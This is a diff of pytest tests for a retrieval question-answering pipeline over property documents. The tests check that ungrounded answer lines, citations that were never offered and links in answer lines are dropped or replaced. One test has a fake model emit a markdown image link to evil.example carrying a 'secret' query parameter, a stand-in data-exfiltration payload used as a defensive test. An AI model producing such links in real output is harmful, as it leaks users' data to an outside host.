@@ -7,8 +7,8 @@ from typing import Any
 import dspy
 import pytest
 
-from pipeline.guards.citations import NO_INFORMATION
 from pipeline.guards.ids import is_canonical_uuid
+from pipeline.guards.sections import NOT_FOUND
 from pipeline.intake.scope import resolve_scope
 from pipeline.program.events import Completed, Failed
 from pipeline.program.module import ScopedQA
@@ -98,55 +98,43 @@ def test_bad_scores_keep_the_groups_chunks(demo_store: Store, scores: Any, reaso
     assert all(s.status == "answered" for s in done.sections)
 
 
-def test_all_chunks_scored_low_gives_no_information_section(demo_store: Store) -> None:
-    done, _ = _run(demo_store, cooperative(["What is the rent?"], score=0.0), property_ref="Banda Lane")
+def test_all_chunks_scored_low_gives_a_not_found_section(demo_store: Store) -> None:
+    done, trace = _run(demo_store, cooperative(["What is the rent?"], score=0.0), property_ref="Banda Lane")
     assert isinstance(done, Completed)
-    assert done.sections[0].status == "no_information" and done.sections[0].bullets == (NO_INFORMATION,)
-    assert NO_INFORMATION in done.answer
+    assert done.sections[0].status == "not_found" and done.sections[0].answer == NOT_FOUND
+    assert not done.sections[0].evidence and not done.sections[0].sources
+    assert NOT_FOUND in done.answer and trace.lines[0].reason == "no chunk was kept for it"
 
 
-def test_missing_section_is_a_section_error_not_a_failed_answer(demo_store: Store) -> None:
-    def one_section(prompt: str) -> dict[str, Any]:
+def test_a_missing_answer_line_is_answered_by_the_span_floor_and_recorded(demo_store: Store) -> None:
+    def one_line(prompt: str) -> dict[str, Any]:
         full = cooperative()(prompt)
-        return {"sections": full["sections"][:1]}
+        return {"answers": full["answers"][:1]}
 
-    done, trace = _run(demo_store, _override("sections_context", one_section), property_ref="Banda Lane")
+    done, trace = _run(demo_store, _override("sections_context", one_line), property_ref="Banda Lane")
     assert isinstance(done, Completed)
-    assert [s.status for s in done.sections] == ["answered", "error"]
-    assert any(f.guard == "answer" and f.target == "section:1" for f in trace.fallbacks)
+    assert [s.status for s in done.sections] == ["answered", "answered"]
+    assert any(f.guard == "answer" and f.target == "section:1" and "span floor" in f.reason for f in trace.fallbacks)
 
 
-def test_unparseable_answer_marks_every_section_as_error(demo_store: Store) -> None:
+def test_an_unparseable_answer_falls_back_to_the_span_floor_in_every_section(demo_store: Store) -> None:
     done, trace = _run(
         demo_store, _override("sections_context", "I think the rent is high."), property_ref="Banda Lane"
     )
-    assert isinstance(done, Completed) and {s.status for s in done.sections} == {"error"}
+    assert isinstance(done, Completed) and {s.status for s in done.sections} == {"answered"}
     assert any(f.guard == "answer" and f.target == "lm_output" for f in trace.fallbacks)
+    assert {f.target for f in trace.fallbacks if "span floor" in f.reason} == {"section:0", "section:1"}
 
 
-def test_citations_of_unseen_chunks_are_removed(demo_store: Store) -> None:
-    outsider = next(d for d in demo_store.catalog.documents.values() if "banda-road" in d.relpath)
-
+def test_sentence_ids_never_offered_and_citations_written_in_the_line_are_dropped(demo_store: Store) -> None:
     def cites_unseen(prompt: str) -> dict[str, Any]:
         contexts = field(prompt, "sections_context")
         return {
-            "sections": [
+            "answers": [
                 {
                     "sub_question_index": c["sub_question_index"],
-                    "bullets": [
-                        {
-                            "text": "Seen fact [made-up.pdf, page 9]",
-                            "citations": [{"filename": c["chunks"][0]["filename"], "page": c["chunks"][0]["page"]}],
-                        },
-                        {
-                            "text": "Unseen fact",
-                            "citations": [
-                                {"filename": outsider.filename, "page": 1},
-                                {"filename": "made-up.pdf", "page": 9},
-                                {"filename": c["chunks"][0]["filename"], "page": 999},
-                            ],
-                        },
-                    ],
+                    "sentence_ids": [999, -1, 0],
+                    "answer": c["sentences"][0]["text"] + " [made-up.pdf, page 9]",
                 }
                 for c in contexts
             ]
@@ -156,9 +144,9 @@ def test_citations_of_unseen_chunks_are_removed(demo_store: Store) -> None:
     assert isinstance(done, Completed)
     allowed = set(demo_store.entity_document_ids(demo_store.resolve_entity("Banda Lane").entity_id))
     assert {s.document_id for sec in done.sections for s in sec.sources} <= allowed
-    assert "made-up.pdf" not in done.answer and "page 999" not in done.answer
-    removed = [i for i in trace.interventions if i.guard == "citation"]
-    assert len(removed) == 3 * len(done.sections)
+    assert "made-up.pdf" not in done.answer
+    ignored = [i for i in trace.interventions if i.guard == "answer" and "were not offered" in i.reason]
+    assert len(ignored) == len(done.sections)
 
 
 def test_ids_and_placeholders_in_lm_output_never_reach_the_store(demo_store: Store) -> None:
@@ -202,76 +190,65 @@ def test_lm_failure_ends_with_an_error_event(demo_store: Store) -> None:
     assert any(f.guard == "lm" and "model server went away" in f.reason for f in trace.fallbacks)
 
 
-def test_echoed_and_ungrounded_bullets_are_dropped(demo_store: Store) -> None:
-    def weak_model(prompt: str) -> dict[str, Any]:
+def _answering(text: Any) -> Any:
+    """An LM whose answer line for each section is `text(first offered sentence)`, resting on sentence 0."""
+
+    def respond(prompt: str) -> dict[str, Any]:
         contexts = field(prompt, "sections_context")
         return {
-            "sections": [
-                {
-                    "sub_question_index": c["sub_question_index"],
-                    "bullets": [
-                        {
-                            "text": c["sub_question"],
-                            "citations": [{"filename": c["chunks"][0]["filename"], "page": c["chunks"][0]["page"]}],
-                        },
-                        {
-                            "text": "A roof leak above the master bedroom from cracked tiles, KSH 999,999 of damage",
-                            "citations": [{"filename": c["chunks"][0]["filename"], "page": c["chunks"][0]["page"]}],
-                        },
-                    ],
-                }
+            "answers": [
+                {"sub_question_index": c["sub_question_index"], "sentence_ids": [0], "answer": text(c["sentences"][0])}
                 for c in contexts
             ]
         }
 
+    return respond
+
+
+@pytest.mark.parametrize(
+    ("answer", "missing"),
+    [
+        (lambda s: "The rent is KSH 999,999 a month.", "999,999"),
+        (lambda s: "The tenant is Zebediah Quartermaine.", "Zebediah Quartermaine"),
+        (lambda s: "It was signed on 31 December 1999.", "31 December 1999"),
+        (lambda s: "A roof leak above the master bedroom from cracked tiles", "most of its words"),
+    ],
+)
+def test_an_ungrounded_line_is_replaced_by_its_first_quote_and_recorded(
+    demo_store: Store, answer: Any, missing: str
+) -> None:
     done, trace = _run(
         demo_store,
-        _override("sections_context", weak_model, cooperative(["What is the rent?"])),
+        _override("sections_context", _answering(answer), cooperative(["What is the rent?"])),
         property_ref="Banda Lane",
     )
     assert isinstance(done, Completed)
-    assert done.sections[0].status == "no_information" and not done.sections[0].sources
+    section = done.sections[0]
+    assert section.status == "answered" and section.basis == "sentence"
+    assert section.evidence[0].text.startswith(section.answer.removesuffix(" …"))
     reasons = [i.reason for i in trace.interventions if i.guard == "grounding"]
-    assert reasons == ["restates the question", "not supported by the cited pages"]
+    assert len(reasons) == 1 and missing in reasons[0]
 
 
-def test_repeated_bullets_are_shown_once(demo_store: Store) -> None:
-    def repeats(prompt: str) -> dict[str, Any]:
-        contexts = field(prompt, "sections_context")
-        first = contexts[0]["chunks"][0]
-        bullet = {
-            "text": " ".join(first["text"].split()[:8]),
-            "citations": [{"filename": first["filename"], "page": first["page"]}],
-        }
-        return {
-            "sections": [
-                {"sub_question_index": 0, "bullets": [bullet, bullet, dict(bullet, text=bullet["text"].upper())]}
-            ]
-        }
-
+def test_a_grounded_line_copied_from_its_sentence_is_kept(demo_store: Store) -> None:
     done, trace = _run(
         demo_store,
-        _override("sections_context", repeats, cooperative(["What is the rent?"])),
+        _override("sections_context", _answering(lambda s: " ".join(s["text"].split()[:6])), cooperative(["Rent?"])),
         property_ref="Banda Lane",
     )
-    assert isinstance(done, Completed) and len(done.sections[0].bullets) == 1
-    assert [i.reason for i in trace.interventions if i.guard == "grounding"] == ["repeats an earlier bullet"] * 2
+    assert isinstance(done, Completed)
+    section = done.sections[0]
+    assert section.basis == "extracted" and not [i for i in trace.interventions if i.guard == "grounding"]
 
 
-def test_links_in_bullets_are_never_rendered(demo_store: Store) -> None:
-    def exfiltrates(prompt: str) -> dict[str, Any]:
-        contexts = field(prompt, "sections_context")
-        first = contexts[0]["chunks"][0]
-        words = " ".join(first["text"].split()[:8])
-        bullet = {
-            "text": f"{words} ![i](http://evil.example/?d=secret) [more](https://evil.example)",
-            "citations": [{"filename": first["filename"], "page": first["page"]}],
-        }
-        return {"sections": [{"sub_question_index": 0, "bullets": [bullet]}]}
+def test_links_in_answer_lines_are_never_rendered(demo_store: Store) -> None:
+    def exfiltrates(sentence: dict[str, Any]) -> str:
+        words = " ".join(sentence["text"].split()[:8])
+        return f"{words} ![i](http://evil.example/?d=secret) [more](https://evil.example)"
 
     done, trace = _run(
         demo_store,
-        _override("sections_context", exfiltrates, cooperative(["What is the rent?"])),
+        _override("sections_context", _answering(exfiltrates), cooperative(["What is the rent?"])),
         property_ref="Banda Lane",
     )
     assert isinstance(done, Completed) and done.sections[0].status == "answered"
